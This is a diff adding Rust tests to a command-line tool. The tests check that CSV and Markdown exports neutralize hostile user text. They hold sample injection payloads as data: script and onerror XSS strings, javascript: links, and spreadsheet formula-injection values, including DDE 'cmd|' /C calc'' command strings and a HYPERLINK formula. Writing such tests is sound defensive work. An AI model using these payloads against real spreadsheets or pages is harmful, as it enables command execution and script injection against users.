@@ -384,3 +384,122 @@ fn a_closed_pipe_ends_the_output_quietly() {
     assert!(out.status.success(), "{:?}: {stderr}", out.status);
     assert!(!stderr.contains("panicked"), "{stderr}");
 }
+
+/// The mature example with hostile text in every field a user types.
+fn hostile_case(symbol: &str) -> String {
+    let text = std::fs::read_to_string(case("mature-spot-cex.json")).unwrap();
+    let mut c: serde_json::Value = serde_json::from_str(&text).unwrap();
+    c["exchange"]["name"] = "<script>alert(1)</script> | # X".into();
+    let names = [
+        "=HYPERLINK(\"http://x/?\"&B2,\"Click\")",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "<img src=x onerror=alert(1)>",
+        "[t](javascript:alert(1))",
+    ];
+    let first = c["candidates"][0].clone();
+    c["candidates"] = names
+        .iter()
+        .enumerate()
+        .map(|(i, n)| {
+            let mut cand = first.clone();
+            cand["name"] = (*n).into();
+            cand["values"]["seniority"] = (i as u64 + 1).into();
+            cand
+        })
+        .collect();
+    c["criteria"] = serde_json::json!([
+        {"id": "seniority", "label": "[t](javascript:alert(1))", "kind": "benefit", "weight": 1},
+        {"id": "cost", "label": "<img src=x onerror=alert(2)>", "kind": "cost", "weight": 1}
+    ]);
+    for cand in c["candidates"].as_array_mut().unwrap() {
+        let values = cand["values"].as_object_mut().unwrap();
+        values.retain(|k, _| k == "seniority" || k == "cost");
+    }
+    c["estimate"]["tasks"] = serde_json::json!([
+        {"id": "t1", "label": "<img src=x onerror=alert(3)>", "optimistic": 1, "most_likely": 2, "pessimistic": 3}
+    ]);
+    c["agreement"]["incentives"]["exchange_token_symbol"] = symbol.into();
+    c.to_string()
+}
+
+/// No field of a CSV the command writes would run as a spreadsheet formula (OWASP: a cell
+/// starting with = + - @ tab or CR), and the names are all there, behind a quote.
+#[test]
+fn csv_exports_neutralize_formulas() {
+    let out = with_stdin(&["evaluate", "--format", "csv"], &hostile_case("KST"));
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let csv = String::from_utf8_lossy(&out.stdout);
+    let mut rows = 0;
+    for line in csv.lines().skip(1) {
+        let name = line.split(',').nth(1).unwrap().trim_start_matches('"');
+        assert!(
+            !name.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "a live formula: {line}"
+        );
+        rows += 1;
+    }
+    assert_eq!(rows, 6);
+    assert!(
+        csv.contains("\"'=HYPERLINK(\"\"http://x/?\"\"&B2,\"\"Click\"\")\""),
+        "{csv}"
+    );
+    assert!(csv.contains(",'-2+3,"), "{csv}");
+}
+
+/// User text is text in every Markdown document: no HTML tag, link, heading or table cell of
+/// its own.
+#[test]
+fn markdown_exports_escape_user_text() {
+    let case = hostile_case("<b>KST</b>");
+    for command in [
+        vec!["proposal"],
+        vec!["announcement"],
+        vec!["evaluate", "--format", "markdown"],
+        vec!["estimate", "--format", "markdown"],
+        vec!["maturity", "--format", "markdown"],
+        vec!["plan", "--format", "markdown"],
+        vec!["agreement", "--format", "markdown"],
+    ] {
+        let out = with_stdin(&command, &case);
+        assert!(
+            out.status.success(),
+            "{command:?}: {}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        let md = String::from_utf8_lossy(&out.stdout);
+        for raw in ["<img", "<script", "<b>", "](javascript"] {
+            // Escaped, the text is preceded by a backslash.
+            let unescaped = md.match_indices(raw).any(|(i, _)| !md[..i].ends_with('\\'));
+            assert!(!unescaped, "{command:?} writes {raw:?} raw:\n{md}");
+        }
+        assert!(
+            md.lines()
+                .next()
+                .unwrap()
+                .contains("\\<script\\>alert(1)\\</script\\> \\| \\# X"),
+            "{command:?}: {md}"
+        );
+    }
+    let md = String::from_utf8_lossy(&with_stdin(&["proposal"], &case).stdout).to_string();
+    assert!(md.contains("\\<b\\>KST\\</b\\>"), "{md}");
+}
+
+/// A token symbol that would add lines to the proposal is refused, naming its field.
+#[test]
+fn one_line_fields_refuse_line_breaks() {
+    let out = with_stdin(&["proposal"], &hostile_case("KST\n# Heading\n| a | b |"));
+    assert_eq!(out.status.code(), Some(2));
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        err.contains("agreement.incentives.exchange_token_symbol: must be one line"),
+        "{err}"
+    );
+    let out = with_stdin(&["proposal"], &hostile_case(&"K".repeat(17)));
+    assert!(String::from_utf8_lossy(&out.stderr).contains("must be at most 16 characters"));
+}
